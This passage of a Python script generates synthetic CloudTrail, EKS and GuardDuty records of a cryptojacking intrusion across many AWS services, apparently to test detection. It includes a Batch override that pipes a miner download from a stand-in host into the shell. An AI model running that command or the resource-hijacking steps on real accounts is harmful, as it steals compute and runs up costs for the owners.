        ecs_register(trail, morning, "ci", "web-api", f"{ECR}/web-api:1.{42 + day}.1", 512, 1024, revision=revision)
        ecs_service(trail, morning + timedelta(minutes=1), "ci", "web-api", "prod", f"web-api:{revision}", 3,
                    create=False)
        lambda_update_code(trail, morning + timedelta(minutes=3), "ci", "orders-handler", 512, 30)
        for build in range(4):
            cb_start(trail, morning + timedelta(hours=2 * build, minutes=5), "ci", "web-app-ci", build)
        amplify_job(trail, morning + timedelta(minutes=30), "ci", "d2k4v7x9q1w3e5", "main", job)
        job += 1
        batch_submit(trail, morning + timedelta(hours=-8), "etl", f"nightly-etl-{day:02d}", "etl-queue",
                     "etl-job:7", overrides={"environment": [{"name": "RUN_DATE", "value": f"2026-11-{day + 1:02d}"}]})
        sm_training(trail, morning + timedelta(hours=4), "datascience", f"churn-xgb-{day:02d}", "ml.m5.xlarge", 1,
                    "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1")
        if day % 7 == 3:
            sm_processing(trail, morning + timedelta(hours=5), "datascience", f"feature-prep-{day:02d}",
                          "ml.m5.large", 1, f"{ECR}/feature-prep:2.3")


def attack(trail):
    t = ATTACK_START
    a = "attacker"
    # ECS/Fargate: a public miner image with pool arguments, run as tasks and a service
    ecs_register(trail, t + timedelta(minutes=3), a, "system-update", "docker.io/metal3d/xmrig:latest", 4096, 8192,
                 command=MINER_ARGS)
    ecs_run(trail, t + timedelta(minutes=4), a, "prod", "system-update:1", 10)
    ecs_service(trail, t + timedelta(minutes=5), a, "system-update", "prod", "system-update:1", 20)
    # SageMaker: GPU notebook and jobs; one quota failure
    sm_lifecycle(trail, t + timedelta(minutes=9), a, "research-setup", MINER_SCRIPT)
    sm_notebook(trail, t + timedelta(minutes=10), a, "research-gpu", "ml.p3.16xlarge", lifecycle="research-setup")
    sm_training(trail, t + timedelta(minutes=12), a, "llm-finetune-01", "ml.p4d.24xlarge", 4, f"{FOREIGN_ECR}/trainer:latest")
    sm_training(trail, t + timedelta(minutes=13), a, "llm-finetune-02", "ml.p5.48xlarge", 2, f"{FOREIGN_ECR}/trainer:latest",
                error="ResourceLimitExceeded",
                message="The account-level service limit 'ml.p5.48xlarge for training job usage' is 0 Instances")
    sm_processing(trail, t + timedelta(minutes=14), a, "data-prep-01", "ml.g5.48xlarge", 2,
                  f"{FOREIGN_ECR}/prep:latest", arguments=MINER_ARGS)
    # CodeBuild: a GPU, privileged project with a miner buildspec, started 25 times; the CI project resized
    cb_project(trail, t + timedelta(minutes=20), a, "cache-warmer", "BUILD_GENERAL1_LARGE", "LINUX_GPU_CONTAINER",
               True, MINER_BUILDSPEC)
    for n in range(25):
        cb_start(trail, t + timedelta(minutes=21, seconds=10 * n), a, "cache-warmer", n)
    cb_project(trail, t + timedelta(minutes=26), a, "web-app-ci", "BUILD_GENERAL1_2XLARGE", "LINUX_CONTAINER", False,
               BENIGN_BUILDSPEC, update=True)
    # Lambda: a 10 GB, 15-minute image function from another account's registry; the CI function maxed out
    lambda_create(trail, t + timedelta(minutes=30), a, "image-resize-worker", 10240, 900,
                  image=f"{FOREIGN_ECR}/resize:latest")
    lambda_update_config(trail, t + timedelta(minutes=31), a, "orders-handler", 10240, 900)
    # Batch: a GPU Spot environment, the ETL environment widened, an array job with miner overrides
    batch_ce(trail, t + timedelta(minutes=35), a, "ml-ce", ["p3.16xlarge", "g5.48xlarge"], 2048, kind="SPOT")
    batch_ce(trail, t + timedelta(minutes=36), a, "etl-ce", ["optimal"], 4096, update=True)
    batch_submit(trail, t + timedelta(minutes=38), a, "warmup", "etl-queue", "etl-job:7",
                 overrides={"command": ["sh", "-c", "curl -sL https://x.example/xmrig | sh -s -- " + " ".join(MINER_ARGS)]},
                 array=100)
    # EKS: a GPU node group and the general node group scaled out
    eks_nodegroup(trail, t + timedelta(minutes=40), a, "prod-eks", "gpu-workers", ["p3.8xlarge"], 0, 20, 10,
                  ami="AL2_x86_64_GPU")
    eks_nodegroup(trail, t + timedelta(minutes=41), a, "prod-eks", "general", [], 2, 100, 50, update=True)
    # Lightsail: the largest bundle in three regions
    for i, zone in enumerate(["us-east-1a", "eu-west-1a", "ap-southeast-1a"]):
        lightsail_create(trail, t + timedelta(minutes=45 + i), a, [f"node-{i}-{n}" for n in range(5)], zone,
                         "2xlarge_3_0", user_data=MINER_SCRIPT)
    # Amplify: an app whose build spec mines, a branch and a release job
    amplify_app(trail, t + timedelta(minutes=50), a, "docs-preview", "d9p2m4r6t8y0u1", MINER_BUILDSPEC)
    amplify_branch(trail, t + timedelta(minutes=51), a, "d9p2m4r6t8y0u1", "main")
    amplify_job(trail, t + timedelta(minutes=52), a, "d9p2m4r6t8y0u1", "main", 1)
    # the next morning the teams work as usual: their calls stay silent
    after = ATTACK_START + timedelta(hours=8)
    sm_training(trail, after, "datascience", "churn-xgb-16", "ml.m5.xlarge", 1,
                "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1")
    cb_start(trail, after + timedelta(minutes=5), "ci", "web-app-ci", 99)
    lambda_update_code(trail, after + timedelta(minutes=7), "ci", "orders-handler", 512, 30)


def generate(out: Path) -> int:
    trail = Trail()
    benign_history(trail)
    attack(trail)
    target = out / "cloudtrail"
    if target.exists():
        for old in sorted(target.rglob("*.json.gz")):
            old.unlink()
    samples_io.write_cloudtrail_export(target, trail.records)
    # the EKS cluster's control-plane log group /aws/eks/prod-eks/cluster (kube-apiserver-audit streams)
    samples_io.write_json_lines(out / "eks-audit" / "aws" / "eks" / "prod-eks" / "cluster" / "kube-apiserver-audit.jsonl",
                                eks_audit())
    samples_io.write_json_lines(out / "guardduty" / "findings.jsonl", guardduty_findings())
    return len(trail.records)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT)
    args = parser.parse_args(argv)
    count = generate(args.out)
    print(f"wrote {count} SYNTHETIC CloudTrail records under {args.out / 'cloudtrail'}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
